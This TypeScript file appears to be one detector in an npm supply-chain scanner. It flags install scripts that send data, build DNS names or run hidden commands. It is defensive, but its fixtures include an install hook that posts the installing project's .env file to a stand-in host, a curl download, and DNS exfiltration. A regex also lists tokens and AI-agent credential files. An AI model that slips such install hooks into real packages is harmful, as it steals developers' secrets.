import { phaseHere } from "../behaviour/moments.ts";
import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { isBundle, sendingDeeds } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { sight } from "./_sight.ts";

const WORDS = ["child_process", "http", "fetch(", "axios", "dns", "net", "execa"] as const;

export const installScriptActs: Detector = {
  id: "install-script-acts",
  title: "A file that an install script runs sends something or hides a command",
  severity: "medium",
  ecosystems: ["npm"],
  points: 4.75,
  class: "threat",
  group: "import-acts",
  why: `The file behind a \`preinstall\`, \`install\` or \`postinstall\` script sends a request with a body, asks a name server for a name that it
puts together, or starts a command that fetches, sends or hides.

Fetching a native program is what honest install scripts do, with a plain request; so is starting a compiler. Both pass. Install
statistics are a request with a body: this alone does not withhold a release, unless the file also names tokens, files with settings
or the project that is being installed into.`,
  literals: WORDS,
  *detect(tree) {
    for (const file of scriptsWith(tree, WORDS)) {
      if (file.phase !== "install") continue;
      const isRun = ({ offset }: Deed) => phaseHere(file, offset) === "install";
      const sends = sendingDeeds(file).find(isRun);
      if (sends !== undefined)
        yield sight(file, sends.offset, `${sends.what} sends ${sends.text.slice(0, 120)} at install`, {
          share: takes(file) ? 0.9 : 0.72,
        });
      const command = deedsOf(file, "start").find((deed) => isOdd(deed) && isRun(deed));
      if (command !== undefined)
        yield sight(file, command.offset, `${command.what} starts ${command.text.slice(0, 160)} at install`, {
          share: 0.8,
        });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"preinstall":"node a.js"}}`,
          "a.js":
            "const https = require('https');\nhttps.request({ host: 'example.invalid', method: 'POST' }).end(x);\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"postinstall":"node scripts/a"}}`,
          "scripts/a.js": "require('child_process').exec('curl -s example.invalid/x -o /tmp/x');\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"install":"node a.js"}}`,
          "a.js":
            "const https = require('https'), cp = require('child_process');\nhttps.get(url, save);\ncp.execSync('node-gyp rebuild');\n",
        },
      },
      { ecosystem: "npm", files: { "a.js": "const https = require('https');\nhttps.request({ method: 'POST' });\n" } },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"install":"node a.js"}}`,
          "a.js":
            "require('child_process').spawnSync('which brew >/dev/null 2>&1 && brew --prefix', { shell: true });\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"postinstall":"node a.js"}}`,
          "a.js":
            "const fs = require('fs');\nfetch('https://example.invalid', { method: 'POST', body: fs.readFileSync(process.env.INIT_CWD + '/.env') });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"postinstall":"node a.js"}}`,
          "a.js": "require('child_process').exec('which node >/dev/null && ./lib/run >/dev/null 2>&1');\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"preinstall":"npm run x","x":"node ./a"}}`,
          "a.js": "require('./b');\n",
          "b.js": `require('dns').lookup(\`\${name}.example.invalid\`, () => {});\n`,
        },
      },
    ],
  },
};

function isOdd({ command }: Deed): boolean {
  return command !== undefined && (command.fetches || command.sends || command.hides);
}

/** Tokens, files that programs and agents keep for their user, and those of the project that installs. */
const TAKES =
  /\b(?:NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|GITLAB_TOKEN|AWS_SECRET_ACCESS_KEY|npm_config__auth\w{0,10})\b|INIT_CWD|["'`/]\.env["'`]|\.claude\.json|\.(?:cursor|codex|gemini)\/\w{1,20}\.json|Local Extension Settings/;
const READS = /\bread(?:File|dir)|createReadStream/;

/** Whether a file that a person wrote for the install also reads what is not the package's. */
function takes(file: SourceFile): boolean {
  if (isBundle(file) || file.isFar === true) return false;
  const match = TAKES.exec(file.text);
  return match !== null && (/TOKEN|KEY|_auth/.test(match[0]) || READS.test(file.text));
}
